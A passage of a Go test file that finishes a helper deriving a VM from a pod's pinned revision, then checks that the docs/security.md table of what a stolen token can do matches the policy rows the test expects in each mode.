	if !ok {
		t.Fatalf("Pod %s pins VM revision %q, which store %s lacks", pod.Name, hash, name)
	}
	opts.VMRevisionHash = hash
	vm, err := derive.VM(rev, derive.Pod{Name: pod.Name, Namespace: pod.Namespace, UID: pod.UID, Node: pod.Spec.NodeName}, opts)
	if err != nil {
		t.Fatal(err)
	}
	return vm
}

// checkSecurityTable checks that docs/security.md's table has exactly the rows
// of securityRows, each saying yes or no in each mode as the row expects.
func checkSecurityTable(t *testing.T) {
	b, err := os.ReadFile(repoFile("docs/security.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, table, ok := strings.Cut(string(b), "\n| with the stolen token |")
	if !ok {
		t.Fatal("docs/security.md has no table of what a stolen token can do")
	}
	table, _, _ = strings.Cut(table, "\n\n")
	got := map[string][3]bool{}
	var order []string
	for _, line := range strings.Split(table, "\n")[2:] { // the header's rest and the separator
		cells := strings.Split(strings.Trim(line, "| "), "|")
		if len(cells) != 4 {
			t.Fatalf("docs/security.md: row %q has %d cells, want 4", line, len(cells))
		}
		name := strings.ReplaceAll(strings.TrimSpace(cells[0]), "`", "")
		var allow [3]bool
		for m := range allow {
			switch word := strings.Fields(strings.ReplaceAll(cells[m+1], "*", ""))[0]; word {
			case "yes", "no":
				allow[m] = word == "yes"
			default:
				t.Errorf("docs/security.md: row %q, column %s says %q, want yes or no first", name, securityMode(m), cells[m+1])
			}
		}
		got[name] = allow
		order = append(order, name)
	}
	var want []string
	for _, row := range securityRows {
		want = append(want, row.name)
		if allow, ok := got[row.name]; ok && allow != row.allow {
			t.Errorf("docs/security.md: row %q says %v (policy off, on, own namespace), the test expects %v", row.name, allow, row.allow)
		}
	}
	if diff := cmp.Diff(want, order); diff != "" {
		t.Errorf("docs/security.md's rows differ from what the test tries (-want +got):\n%s", diff)
	}
}
